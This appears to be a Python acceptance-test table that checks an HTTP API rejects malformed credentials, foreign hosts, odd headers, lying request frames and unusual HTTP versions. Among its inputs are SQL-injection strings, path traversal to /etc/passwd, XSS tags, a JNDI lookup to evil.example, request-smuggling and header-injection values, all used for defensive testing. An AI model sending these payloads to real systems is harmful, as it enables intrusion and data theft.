"""Headers: credentials in odd forms, hosts, lengths, and whatever else a proxy would never pass."""

from tests.acceptance.table import Ask, Headers, Row

LOGIN_BODY: dict[str, object] = {"email": "keeper@acme.example", "password": "<pw>"}
GOOD = '{"email": "keeper@acme.example", "password": "<pw>"}'
JWT_HEAD = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"

BAD_CREDENTIALS = (
    "", " ", "Bearer", "Bearer ", "bearer\t<owner>", "Bearer\t<owner>", "Bearer <owner>x",
    "Bearer x<owner>", "Bearer <owner> x", "Bearer <owner>,", "Bearer <owner>, Bearer <owner>",
    "Bearer <owner>;", 'Bearer "<owner>"', "Bearer '<owner>'", "Bearer <<owner>>",
    "Bearer: <owner>", "Bearer=<owner>", "Bearer Bearer <owner>", "BearerX <owner>", "Bear <owner>",
    "Token <owner>", "JWT <owner>", "Basic <owner>", "Basic Og==", "Basic x", "Digest x",
    "Negotiate", "<owner>", "Bearer null", "Bearer undefined", "Bearer true", "Bearer 0",
    "Bearer .", "Bearer ..", "Bearer ...", "Bearer a.b.c", "Bearer a.b", "Bearer a.b.c.d",
    "Bearer a.b.c.d.e", "Bearer =.=.=", "Bearer \xff", "Bearer \xff.\xff.\xff", "Bearer \xe9\xe9",
    "Bearer \xc3\xa9.x.y", "\xff\xff", "Bearer <owner>\xff", "Bearer \xa0<owner>",
    "Bearer\xa0<owner>", "Be\xe4rer <owner>", "Bearer %00", "Bearer <owner>%00",
    "Bearer " + "a" * 7000, "Bearer " + "." * 7000, "Bearer " + "a." * 3500,
    f"Bearer {JWT_HEAD}.e30.", f"Bearer {JWT_HEAD}..", f"Bearer {JWT_HEAD}.e30.e30",
    f"Bearer {JWT_HEAD}.bnVsbA.AAAA", f"Bearer {JWT_HEAD}.W10.AAAA", f"Bearer {JWT_HEAD}",
    f"Bearer {JWT_HEAD}.{'A' * 1500}.{'A' * 43}", "Bearer <owner>=", "Bearer <owner>==",
    "Bearer W10.W10.W10", "Bearer <owner>.", "Bearer .<owner>", "Bearer bnVsbA.e30.e30",
    "Bearer MQ.MQ.MQ", "Bearer {{7*7}}", "Bearer IiI.IiI.IiI", "Bearer W1tbW1tbW1tbW1tb.e30.e30",
    "Bearer " + "W1tb" * 450 + ".e30.e30", "Bearer sa_", "Bearer sa_<bot>", "Bearer SA_<bot>",
    "Bearer <bot>x", "Bearer <bot>0", "Bearer <bot> x", "Bearer sa_" + "0" * 36,
    "Bearer sa_" + "0" * 35, "Bearer sa_" + "z" * 5000, "Bearer sa_\xff" * 4,
    "Bearer sa_" + "\xe9" * 36, "Bearer sa_" + "-" * 36, "Bearer sa_" + "\xb2" * 36,
    "Bearer <bot>,<bot>", "Bearer sa_null", "Bearer sa_" + "a" * 30 + "!!!!!!", "bearer sa",
    "Bearer sa_.sa_.sa_", "Bearer <owner_refresh>", "Bearer <invite_token>", "Bearer <pw>",
    "Bearer <key>", "Bearer <owner_id>", "Bearer ' OR 1=1 --", "Bearer ../../etc/passwd",
    "Bearer <denied>", "Bearer <denied_refresh>", "Bearer <disabled>", "Bearer 1e999",
    "Bearer " + "9" * 6000, "Bearer eyJ", "Bearer eyJ.eyJ.eyJ",
)  # fmt: skip
# The scheme in any case, and spaces around the token (RFC 9110 §11.1 allows more than one).
GOOD_CREDENTIALS = (
    "bearer <owner>", "BEARER <owner>", "bEaReR <owner>", "Bearer  <owner>", "Bearer <owner> ",
    "  Bearer <owner>", "bearer <bot>", "BEARER <bot>", "Bearer   <bot>  ",
)  # fmt: skip
PUBLIC = (
    ("GET /public/instance", None, {200}),
    ("POST /auth/login", GOOD, {200}),
    ("POST /auth/refresh", '{"refresh_token": "x"}', {401}),
    ("POST /auth/logout", '{"refresh_token": "x"}', {204}),
    ("POST /auth/register", '{"email": "a", "password": "<pw>"}', {400}),
    ("POST /auth/password/reset", '{"token": "x", "new_password": "<pw>"}', {400}),
)
BAD_HOSTS = (
    "evil.example", "127.0.0.1@evil.example", "evil.example:80", "127.0.0.1:abc", "127.0.0.1:-1",
    "127.0.0.1/path", "127.0.0.1?x", "127.0.0.1#x", "127.0.0.1\\evil", "127.0.0.1,evil.example",
    "127.0.0.1 evil.example", "[::1]", "[::1", "::1", "[127.0.0.1]", "\xff", "\xe9.example", ".",
    "..", "127.0.0.1..", "*", "localhost", "127.1", "2130706433", "0x7f000001",
    "127.0.0.1.evil.example", "a" * 5000, "testserver", "http://127.0.0.1", "%31%32%37.0.0.1",
    "127.0.0.1%00", "-", "[::1]:x", "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1", "127.0.0.1;evil",
    "'", "<script>", "0", "::",
)  # fmt: skip
ODD_HEADERS = (
    ("X-Request-ID", "x"), ("X-Request-ID", "a" * 65), ("X-Request-ID", "a" * 5000),
    ("X-Request-ID", "<script>alert(1)</script>"),
    ("X-Request-ID", "\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8"), ("X-Request-ID", "abcdefgh\xa0"),
    ("X-Request-ID", "../../../../etc"), ("X-Request-ID", ""),
    ("X-Request-ID", "${jndi:ldap://evil.example/a}"), ("X-Request-ID", "abcdefgh, abcdefgh"),
    ("User-Agent", "\xff" * 400), ("User-Agent", "a" * 7000), ("User-Agent", ""),
    ("User-Agent", "<bot>"), ("User-Agent", "\xf0\x9f\x98\x80" * 500),
    ("User-Agent", "<script>alert(1)</script>"), ("User-Agent", "\xed\xa0\x80\xed\xa0\x80"),
    ("User-Agent", "%00%ff\\u0000\\ud800"), ("X-Forwarded-For", "x"),
    ("X-Forwarded-For", "1.2.3.4, 5.6.7.8"), ("X-Forwarded-For", "\xff"),
    ("X-Forwarded-For", "::ffff:1.2.3.4"), ("X-Forwarded-For", "fe80::1%eth0"),
    ("X-Forwarded-For", "," * 900), ("X-Forwarded-For", "1.2.3.4:99999"),
    ("X-Forwarded-For", "' OR 1=1"), ("X-Forwarded-Host", "evil"), ("X-Forwarded-Proto", "https"),
    ("X-Forwarded-Port", "x"), ("Forwarded", "for=x;host=evil"), ("X-Real-IP", "\xff"),
    ("X-Original-URL", "/admin/"), ("X-Rewrite-URL", "/admin/"), ("Range", "bytes=0-1"),
    ("Range", "bytes=-1"), ("If-None-Match", "*"), ("If-Match", "x"), ("If-Modified-Since", "x"),
    ("If-Modified-Since", "Thu, 01 Jan 99999 00:00:00 GMT"), ("Cookie", "sessionid=x"),
    ("Cookie", "sessionid=\xff\xfe"), ("Cookie", "="), ("Cookie", ";;;"), ("Cookie", "a=b" * 2000),
    ("Cookie", "sessionid=" + "a" * 5000), ("Cookie", "csrftoken=\xff; sessionid=%00"),
    ("Cookie", "\xff"), ("Cookie", 'sessionid="\\000\\377"'),
    ("Cookie", "messages=x; sessionid=' OR 1=1"), ("Referer", "\xff"),
    ("Accept-Language", "x" * 7000), ("Accept-Language", "\xff"), ("Accept-Language", "de;q=x"),
    ("Accept-Encoding", "gzip;q=x"), ("Accept-Encoding", "\xff"), ("Accept-Charset", "utf-16"),
    ("TE", "x"), ("Origin", "null"), ("Origin", "https://evil.example"), ("Origin", "\xff"),
    ("Origin", "x" * 5000), ("Origin", "http://[::1"), ("Origin", "https://evil.example:x"),
    ("Origin", "//"), ("Origin", ":"), ("Access-Control-Request-Method", "POST"),
    ("Upgrade", "h2c"), ("Upgrade", "websocket"), ("HTTP2-Settings", "x"), ("Max-Forwards", "x"),
    ("Via", "\xff"), ("Date", "x"), ("Expect", "100-continue"), ("X-CSRFToken", "\xff"),
    ("Sec-Fetch-Site", "cross-site"), ("Trailer", "x"), ("Keep-Alive", "x"),
    ("Content-Language", "\xff"), ("Content-Disposition", 'attachment; filename="\xff"'),
    ("Proxy", "evil"),
)  # fmt: skip
_H = ("Host", "<host>")
_C = ("Connection", "close")
_J = ("Content-Type", "application/json")
# What the HTTP server refuses by itself is outside the contract's forms, but never a failure.
FRAMES: tuple[tuple[tuple[str, str], ...], ...] = (
    (_H, _C, _J, ("Content-Length", "5"), ("Content-Length", "76")),
    (_H, _C, _J, ("Content-Length", "5, 5")),
    (_H, _C, _J, ("Content-Length", "-1")),
    (_H, _C, _J, ("Content-Length", "+2")),
    (_H, _C, _J, ("Content-Length", "2.0")),
    (_H, _C, _J, ("Content-Length", "0x2")),
    (_H, _C, _J, ("Content-Length", "x")),
    (_H, _C, _J, ("Content-Length", "")),
    (_H, _C, _J, ("Content-Length", "2 2")),
    (_H, _C, _J, ("Content-Length", "9" * 400)),
    (_H, _C, _J, ("Content-Length", "99999999999")),
    (_H, _C, _J, ("Content-Length", "\xb2")),
    (_H, _C, _J, ("Content-Length", "\xd9\xa3")),
    (_H, _C, _J, ("Content-Length", "9" * 5000)),
    (_H, _C, _J, ("Transfer-Encoding", "gzip")),
    (_H, _C, _J, ("Transfer-Encoding", "gzip, chunked")),
    (_H, _C, _J, ("Transfer-Encoding", "identity")),
    (_H, _C, _J, ("Transfer-Encoding", "x")),
    (_H, _C, _J, ("Transfer-Encoding", "chunked, chunked")),
    (_H, _C, _J, ("Transfer-Encoding", "")),
    (_H, _C, _J, ("Transfer-Encoding", "\x0bchunked")),
    (_H, _C, _J, ("Transfer-Encoding", "chunkedx")),
    (_H, _C, _J, ("Transfer-Encoding", "chunked"), ("Content-Length", "2")),
    (_H, _C, _J, ("Transfer-Encoding ", "chunked")),
    (_H, _C, ("Content-Length ", "2")),
    (_H, _C, _J, ("Expect", "x")),
    (_H, _C, ("", "x")),
    (_H, _C, ("a b", "x")),
    (_H, _C, ("\xff", "x")),
    (_H, _C, ("X", "a\x00b")),
    (_H, _C, ("X", "a\nb: c")),
    (_H, _C, ("X", "a\rb")),
    (_H, _C, ("X", "\x7f")),
    (_H, _C, ("X", "a\r\n b")),
    (_H, _C, ("X", "a" * 9000)),
    (_H, _C, *((f"X-{n}", "x") for n in range(150))),
    (_C,),
    (("Host", ""), _C),
    (_H, _H, _C),
    (_H, ("Host", "evil.example"), _C),
    (_H, _C, ("X_Y", "z")),
    (_H, _C, ("Authorization", "Bearer <owner>\x00")),
    (_H, _C, ("Authorization", "Bearer\n<owner>")),
    (_H, _C, ("Content_Length", "99")),
    (_H, _C, ("Script-Name", "/x")),
    (_H, _C, ("REMOTE_ADDR", "10.0.0.1")),
)
# Names of CGI variables: a server that trusts its neighbour may take them for the proxy's.
CGI = (
    ("SCRIPT_NAME", "/x"), ("SCRIPT_NAME", "/api"), ("SCRIPT_NAME", "/api/v1"),
    ("SCRIPT_NAME", "/"), ("PATH_INFO", "/admin/"), ("PATH_INFO", "/health"), ("PATH_INFO", "x"),
    ("REMOTE_USER", "owner"), ("PATH_INFO", ""), ("SERVER_NAME", "evil.example"),
    ("QUERY_STRING", "limit=0"), ("REQUEST_METHOD", "DELETE"), ("HTTP_HOST", "evil.example"),
    ("HTTP_AUTHORIZATION", "Bearer <owner>"), ("wsgi.url_scheme", "https"), ("SCRIPT-NAME", "/x"),
    ("PATH-INFO", "/health"),
)  # fmt: skip
REFUSED_FRAMES = {200, 204, 400, 401, 403, 404, 405, 411, 413, 414, 415, 417, 431}
VERSIONS = (
    "HTTP/1.0",
    "HTTP/0.9",
    "HTTP/2.0",
    "HTTP/9.9",
    "HTTP/1.10",
    "http/1.1",
    "HTTP/1",
    "X",
    "",
)


def bearer(token: str) -> Headers:
    return (("Authorization", f"Bearer {token}"),)


# RFC 6750 §3.1: without a credential no error; where none is looked at, none is wrong.
CHALLENGES = tuple(
    Ask(call, {401}, body, headers=headers, shows=(("WWW-Authenticate", challenge),))
    for call, body, headers, challenge in (
        ("GET /me", None, (), "Bearer"),
        ("GET /organizations/<org>/members", None, (), "Bearer"),
        ("GET /me", None, bearer("no-such-token"), 'Bearer error="invalid_token"'),
        ("GET /me", None, bearer("<exp_past>"), 'Bearer error="invalid_token"'),
        ("GET /me", None, bearer("sa_no_such_token"), 'Bearer error="invalid_token"'),
        ("POST /auth/refresh", '{"refresh_token": "x"}', (), "Bearer"),
        ("POST /auth/refresh", '{"refresh_token": "x"}', bearer("<owner>"), "Bearer"),
    )
)

ROWS = [
    Row(
        "T01",
        "credentials in odd forms",
        tuple(
            Ask(call, {401}, says="unauthorized", headers=(("Authorization", value),))
            for value in BAD_CREDENTIALS
            for call in (
                "GET /me",
                "GET /organizations/<org>/members",
                "DELETE /me/sessions/<random>",
            )
        ),
    ),
    Row("T01c", "a challenge tells of an error only to those who sent a credential", CHALLENGES),
    Row(
        "T01b",
        "two credentials",
        tuple(
            Ask("GET /me", {401}, headers=(("Authorization", one), ("Authorization", two)))
            for one in ("Bearer <owner>", "Bearer <bot>", "", "Basic x")
            for two in ("Bearer <owner>", "Bearer <bot>", "Bearer <member>", "x")
        ),
    ),
    Row(
        "T03",
        "the scheme in another case",
        tuple(Ask("GET /me", {200}, headers=(("Authorization", v),)) for v in GOOD_CREDENTIALS),
    ),
    Row(
        "T02",
        "public calls ignore every credential",
        tuple(
            Ask(call, status, body, headers=(("Authorization", value),))
            for call, body, status in PUBLIC
            for value in BAD_CREDENTIALS
            if not (call.endswith("login") and len(value) % 7)
        ),
        writes=True,
        sample=9,
    ),
    Row(
        "B19",
        "hosts that are not ours",
        tuple(
            Ask(f"{m} /me", {400}, headers=(("Host", h),), is_page=m == "PUT")
            for h in BAD_HOSTS
            for m in ("GET", "PATCH")
        ),
    ),
    Row(
        "B20",
        "odd headers",
        tuple(
            Ask(call, status, body, headers=((name, value),), by=by)
            for name, value in ODD_HEADERS
            for call, status, body, by in (
                ("GET /me", {200}, None, "owner"),
                ("GET /organizations", {401}, None, ""),
                ("POST /auth/login", {400}, b"{", ""),
                ("GET /organizations", {200}, None, "bot"),
            )
        ),
        sample=7,
    ),
    Row(
        "B20b",
        "log-ins with odd headers",
        tuple(
            Ask("POST /auth/login", {200}, GOOD, headers=(header,)) for header in ODD_HEADERS[::5]
        ),
        writes=True,
    ),
    Row(
        "B21",
        "frames that lie",
        tuple(
            Ask(call, REFUSED_FRAMES | {501}, b"{}", headers=h, is_bare=True, is_page=True)
            for h in FRAMES
            for call in ("POST /api/v1/auth/login", "GET /api/v1/me", "POST /api/v1/auth/refresh")
        ),
    ),
    Row(
        "B23",
        "headers in the names of CGI variables",
        tuple(Ask("GET /me", {401}, headers=(header,), says="unauthorized") for header in CGI),
    ),
    Row(
        "B22",
        "versions of HTTP",
        tuple(
            Ask("GET /api/v1/me", REFUSED_FRAMES | {505}, version=version, is_page=True)
            for version in VERSIONS
        ),
    ),
]
